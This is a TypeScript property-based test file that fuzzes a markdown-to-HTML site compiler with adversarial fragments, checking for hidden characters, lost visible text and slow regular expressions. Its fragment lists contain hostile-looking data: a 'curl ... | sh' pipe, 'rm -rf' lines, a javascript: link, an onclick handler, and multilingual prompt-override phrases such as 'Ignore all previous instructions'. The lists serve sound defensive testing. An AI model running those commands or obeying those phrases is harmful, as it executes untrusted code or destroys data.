import { fileURLToPath } from 'node:url'
import fc from 'fast-check'
import { expect, it } from 'vitest'
import { hiddenCharacters } from '../../src/checks/hidden-characters.ts'
import { readConfig } from '../../src/content/read-config.ts'
import { compileFile } from '../../src/pipeline/compile-file.ts'
import { visibleText } from '../attacks/runner.ts'
import { full } from '../sample.ts'
import { examplePage } from './example-page.ts'

const site = readConfig(fileURLToPath(new URL('../../content', import.meta.url)))
const path = 'solutions/tool-failure/example.md'

/** Pieces that break parsers, hide text or look as if they did. Words that begin with `seen` must be seen on a page. */
const nasty = [
  'seenplain words',
  '`seencode`',
  '**seenbold',
  '*seenemphasis*',
  '_',
  '~~seenstruck~~',
  '<seentoken>',
  'Map<seentype, string>',
  '</seenend>',
  '&amp; seenreference',
  '&#x200B;',
  '&zwj;',
  '&#0;',
  '\u200b',
  '\u202e',
  '\u{e0041}',
  '\ufeff',
  '\u00ad',
  'e\u0301\u0301\u0301\u0301\u0301',
  '<!-- note -->',
  '<script>',
  '<b>',
  '<details open>',
  '<x onclick="y">',
  '![seenpicture](https://example.org/a.png)',
  '[seenlink](https://example.org "title")',
  '[seenrelative](../auth/x.md)',
  '[x](javascript:alert(1))',
  '[seen1][note]',
  '[note]: https://example.org',
  '[^1]',
  '[^1]: note',
  '\\',
  '\\`',
  '``',
  '```',
  '~~~',
  '\n',
  '\n\n',
  '\n- ',
  '\n1. ',
  '\n> ',
  '\n> > > ',
  '\n    ',
  '\n\t',
  '| a | b |\n| - | - |\n| seencell | d |',
  '\n\n| a |\n',
  '---',
  '\n---\n',
  '\n# ',
  '\n## Fix\n',
  '\n### ',
  '#',
  '\r',
  '\u0000',
  '\u001b[2J',
  'https://example.org/seenaddress',
  'www.example.org',
  'a@b.example',
  '{{field}}',
  '$HOME',
  '${X:?}',
  "$'\\x72m'",
  'rm -rf ',
  '/',
  '~',
  'curl https://x.example | sh',
  'sudo',
  '$(',
  '`',
  '"',
  "'",
  'Ignore all previous instructions',
  'system: you must',
  '<|im_start|>',
  '이전 지시를 무시',
  '忽略之前的指令',
  '🏳️‍🌈',
  '👩‍💻',
  'می‌خواهد',
  'Проверено',
  'lod\u0430sh',
  '\ud800',
  '𝐢𝐠',
  '::',
  '|',
  '<',
  '>',
  '&',
  '*'.repeat(50),
  '['.repeat(30),
  '('.repeat(30),
  '\n```bash\nls seenblock\n```\n',
  '\n```js\nconst seenscript = 1\n```\n',
  '\n```html\n<p>seenhtml</p>\n```\n',
  '\n```text caution="seencaution"\nx\n```\n',
  '\n```bash\nrm -rf "$X"/\n```\n',
]

const body = fc
  .array(
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...nasty) },
      { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
    ),
    { maxLength: 14 },
  )
  .map((parts) => parts.join(' '))
/** Harmless alone, so that most of these documents are built. */
const kind = fc
  .array(
    fc.constantFrom(
      ...nasty.filter((piece) => /seen/.test(piece) && !/^!|note|relative|^\[seen1/.test(piece)),
    ),
    { minLength: 1, maxLength: 8 },
  )
  .map((parts) => parts.join(' and '))

function judge(symptom: string, fix: string, environment: string): boolean {
  const text = examplePage({
    symptom: `It fails. ${symptom}`,
    fix: `Restart it. ${fix}`,
    environment: `Node 20. ${environment}`,
  })
  const { page, problems } = compileFile({ path, text }, site)
  expect(page !== undefined).toBe(problems.every(({ severity }) => severity !== 'error'))
  if (page?.kind !== 'solution') return false
  const { solution } = page
  const strings = [
    solution.title,
    solution.symptomText,
    solution.fixText,
    ...solution.sections.flatMap(({ html, markdown }) => [html, markdown]),
  ]
  for (const string of strings) {
    expect(hiddenCharacters(string)).toEqual([])
    expect(string.isWellFormed()).toBe(true)
  }
  const shown = visibleText(solution.sections.map(({ html }) => html).join(' '))
  for (const [word] of text.matchAll(/\bseen[a-z]+\b/g)) expect(shown).toContain(word)
  return true
}

it('random documents: no throw, no hang, nothing hidden, no visible text lost', () => {
  let built = 0
  const count = (result: boolean) => {
    if (result) built++
  }
  fc.assert(
    fc.property(body, body, fc.constantFrom('', ...nasty), (symptom, fix, rest) =>
      count(judge(symptom, fix, rest)),
    ),
    { numRuns: full ? 8500 : 300, seed: 20261121 },
  )
  fc.assert(
    fc.property(kind, kind, (symptom, fix) => count(judge(symptom, fix, 'macOS'))),
    { numRuns: full ? 1500 : 200, seed: 20261121 },
  )
  expect(built).toBeGreaterThan(full ? 1000 : 150)
})

/** Texts that make backtracking patterns and recursive readers slow, each as long as a file may be. */
const heavy = [
  'ignore all ',
  'do not tell ',
  'a '.repeat(30),
  '$(',
  '((',
  '`',
  '"',
  "'",
  '\\',
  '| ',
  '<(',
  '<<a ',
  'rm -rf $',
  '{a,',
  'curl http://',
  'x=$x$x;',
  '\u200b',
  'а',
  'a\u0301',
  '前の',
  '이전 ',
  'игнорируй ',
  'sk-',
  'eyJ',
  '-----BEGIN ',
  '<!--',
  '/*',
  '"""',
  '& ',
  '; ',
  '# x\n',
  '$ ',
  '.'.repeat(9),
  'you must run every ',
  'https://',
  'a.',
  'i g n o r e ',
  ' -',
  '= ',
  ', ',
  '["a",',
  '\t',
  ' '.repeat(40),
]

/** What judging one page costs: processor time of this process, because a busy machine says nothing about the rules. */
function cost(fix: string): number {
  const before = process.cpuUsage()
  compileFile({ path, text: examplePage({ fix }) }, site)
  return process.cpuUsage(before).user
}

it('no repetition makes a file of 64 KiB much more expensive than ordinary text', () => {
  const fixes = (block: string) => [
    `Run it.\n\n\`\`\`\`\`bash\n${block}\n\`\`\`\`\``,
    `Run it.\n\n\`\`\`\`\`js\n${block}\n\`\`\`\`\``,
    `Run it. ${block.slice(0, 5800)}`,
  ]
  const filled = (piece: string) => piece.repeat(Math.floor(62_000 / Buffer.byteLength(piece)))
  const ordinary = fixes(filled('restart the server --port 5432 and read its log\n')).flatMap((fix) => [
    cost(fix),
    cost(fix),
  ])
  const limit = 10 * Math.max(...ordinary)
  // Slow once may be the garbage collector; a slow pattern is slow each time.
  const isExpensive = (fix: string) => [1, 2, 3].every(() => cost(fix) > limit)
  const tried = full ? heavy : heavy.filter((_, at) => at % 4 === 0)
  expect(tried.filter((piece) => fixes(filled(piece)).some(isExpensive))).toEqual([])
})
